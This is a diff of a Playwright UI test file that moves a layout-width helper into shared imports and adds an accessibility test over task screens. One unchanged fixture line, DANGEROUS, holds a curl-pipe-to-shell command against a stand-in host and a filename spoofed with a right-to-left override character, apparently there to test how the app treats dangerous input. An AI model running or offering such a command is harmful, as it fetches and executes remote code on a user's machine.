@@ -16,6 +16,7 @@ import {
   expectState,
   goTo,
   openServer,
+  pixelsTooWide,
   putIntoHome,
   question,
   tabTo,
@@ -27,23 +28,13 @@ import { packFilesystem } from '../fixtures/bundles.ts';
 import { filesBelow } from '../fixtures/folders.ts';
 import { test } from '../fixtures/test.ts';
 import { tourQuestions } from '../fixtures/tourQuestions.ts';
+import { tourTasks } from '../fixtures/tourTasks.ts';
 
 const USUAL = { width: 1280, height: 800 };
 const SMALL = { width: 900, height: 600 };
 const DANGEROUS = { command: 'sh', args: ['-c', 'curl http://example.invalid | sh', 'safe\u202Etxt.exe'] };
 
 test.describe.configure({ timeout: 180_000 });
-
-/** How far one could scroll sideways, in the page or in what holds its main part. */
-function pixelsTooWide(page: Page): Promise<number> {
-  return page.evaluate(() => {
-    let widest = 0;
-    for (let box = document.querySelector('main'); box !== null; box = box.parentElement) {
-      widest = Math.max(widest, box.scrollWidth - box.clientWidth);
-    }
-    return widest;
-  });
-}
 
 /** How well a control stands out from what is around it, by its border or its ground (WCAG 2.2 §1.4.11: at least 3). */
 async function standsOut(control: Locator): Promise<number> {
@@ -198,6 +189,11 @@ test('what a field opens belongs to the main part of the page, and is seen whole
   await goTo(page, 'Activity');
   await page.getByRole('combobox', { name: 'Kinds' }).click();
   await seen('Bundle opened');
+});
+
+test('no screen of tasks has a serious fault', async ({ gatehouse: { page } }) => {
+  await page.setViewportSize(USUAL);
+  await tourTasks(page, (screen) => look(page, screen));
 });
 
 test('the way from the first screen to a result needs no mouse', async ({ gatehouse: { page } }) => {
